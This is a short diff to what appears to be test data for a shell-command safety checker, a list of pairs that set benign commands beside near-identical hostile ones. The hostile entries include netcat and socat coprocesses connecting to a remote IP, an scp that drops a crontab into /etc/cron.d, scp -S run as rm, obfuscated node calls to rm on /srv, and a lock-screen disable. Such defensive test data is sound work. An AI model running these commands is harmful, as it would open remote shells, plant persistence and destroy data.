@@ -715,6 +715,11 @@ const PAIRS: readonly (readonly [string, string])[] = [
     'dconf dump /system/proxy/',
     'gsettings set org.gnome.desktop.lockdown disable-lock-screen true',
   ],
+  // A shell tied to another machine, and files that are called as programs are.
+  ['coproc nc localhost 6379', 'coproc nc 203.0.113.44 443'],
+  ['coproc bc', 'coproc C { socat - TCP:203.0.113.44:443; }'],
+  ['scp crontab host.example:notes/', 'scp crontab host.example:/etc/cron.d/a'],
+  ['scp host.example:rm .', 'scp -S rm a host.example:b'],
   // A function by its name as a text.
   [`node -e "fs['rm'+'Sync']('dist')"`, `node -e "fs['rm'+'Sync']('/srv')"`],
   [`node -e "rows['map'](String)"`, `node -e "cp['execSync']('rm -rf /srv')"`],
